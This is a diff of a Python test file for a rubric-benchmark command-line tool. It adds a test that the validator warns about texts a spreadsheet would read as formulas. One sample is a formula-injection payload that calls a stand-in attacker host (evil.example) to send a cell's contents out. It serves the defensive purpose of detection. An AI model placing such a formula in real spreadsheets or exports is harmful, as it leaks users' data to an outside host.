@@ -17,8 +17,9 @@ from tests.conftest import MINI_RUBRIC
 from tests.rubric.conftest import CASES, parse_error_lines
 from vibbench import cli
 from vibbench.cli import app
-from vibbench.rubric.commands import SCHEMA_FILE, effective_weights
+from vibbench.cli_rubric import SCHEMA_FILE
 from vibbench.rubric.loader import load_rubric
+from vibbench.rubric.model import effective_weights
 
 WIDE = {"COLUMNS": "250"}  # so that rich never wraps a line of the tree
 
@@ -147,6 +148,47 @@ def test_validate_vib(runner: CliRunner, vib_path: Path) -> None:
     assert result.stdout.startswith("ok: ")
 
 
+FORMULA_TEXTS = ['=WEBSERVICE("http://evil.example/"&Institution!B2)', "+1", "-x", "@SUM(A1)"]
+
+
+@pytest.mark.parametrize("lang", ["en", "zh"])
+def test_validate_warns_about_texts_a_spreadsheet_would_read_as_formulas(
+    runner: CliRunner, tmp_path: Path, lang: str
+) -> None:
+    lines = MINI_RUBRIC.read_text("utf-8").splitlines()
+    expected = []
+    for n, line in enumerate(lines):
+        if line.strip().startswith("name: {en: Alpha"):
+            lines[n] = line.split("name:")[0] + f"name: {json.dumps(FORMULA_TEXTS[0])}"
+            expected.append(n + 1)
+        elif line.strip().startswith("source: test") and len(expected) < len(FORMULA_TEXTS):
+            lines[n] = line.split("source:")[0] + f"source: {json.dumps(FORMULA_TEXTS[len(expected)])}"
+            expected.append(n + 1)
+    assert len(expected) == len(FORMULA_TEXTS)
+    path = tmp_path / "formulas.yaml"
+    path.write_text("\n".join(lines) + "\n", "utf-8")
+
+    result = runner.invoke(app, ["rubric", "validate", str(path), "--lang", lang])
+
+    assert result.exit_code == 0, result.output
+    assert result.stdout.startswith("ok: " if lang == "en" else "通过：")
+    warned = [line for line in result.stderr.splitlines() if line]
+    found = []
+    for line in warned:
+        m = re.fullmatch(r"warning: (.+):(\d+): (.+) — (.+)", line)
+        assert m, line
+        assert m[1].endswith("formulas.yaml")
+        found.append(int(m[2]))
+        assert ("formula" in m[3]) if lang == "en" else ("公式" in m[3])
+    assert found == expected
+
+
+def test_validate_of_the_bundled_rubric_warns_of_nothing(runner: CliRunner, vib_path: Path) -> None:
+    result = runner.invoke(app, ["rubric", "validate", str(vib_path)])
+    assert result.exit_code == 0
+    assert result.stderr == ""
+
+
 @pytest.mark.parametrize("name", ["missing.yaml", "folder"])
 def test_validate_of_a_missing_file_or_a_folder(name: str, runner: CliRunner, tmp_path: Path) -> None:
     (tmp_path / "folder").mkdir()
@@ -202,6 +244,9 @@ def test_init_writes_a_rubric_that_validates_and_whose_weights_take_effect(
     text = out.read_text("utf-8")
     assert text.startswith("# yaml-language-server: $schema=")
     assert (out.parent / SCHEMA_FILE).is_file()
+    said = result.stderr.splitlines()  # both files written are named, in both languages
+    assert [line for line in said if str(out) in line and "已写入" in line]
+    assert [line for line in said if str(out.parent / SCHEMA_FILE) in line and "已写入" in line]
     check = runner.invoke(app, ["rubric", "validate", str(out)])
     assert check.exit_code == 0, check.output
     assert check.stdout.startswith("ok: ")
@@ -354,3 +399,18 @@ SCHEMA_LEVEL = [
 @pytest.mark.parametrize("name", SCHEMA_LEVEL)
 def test_schema_rejects_what_it_can_see_of_the_invalid_cases(schema: dict[str, Any], name: str) -> None:
     assert not validator(schema).is_valid(_case_data("invalid", name))
+
+
+def test_the_tree_view_is_a_pure_function_of_the_rubric(monkeypatch: pytest.MonkeyPatch) -> None:
+    from vibbench.report.rubric_tree import rubric_tree
+
+    monkeypatch.delenv("NO_COLOR", raising=False)
+    rubric = load_rubric(MINI_RUBRIC, use_cache=False)
+
+    plain = rubric_tree(rubric, "en", width=200)
+    coloured = rubric_tree(rubric, "en", color=True, width=200)
+
+    assert "\x1b[" not in plain and "\x1b[" in coloured
+    assert re.sub(r"\x1b\[[0-9;]*m", "", coloured) == plain
+    assert "A.X.1 A level  22.2%  level  ref: 4 – Leading" in plain
+    assert rubric_tree(rubric, "zh", width=200).count("参照：") == 5
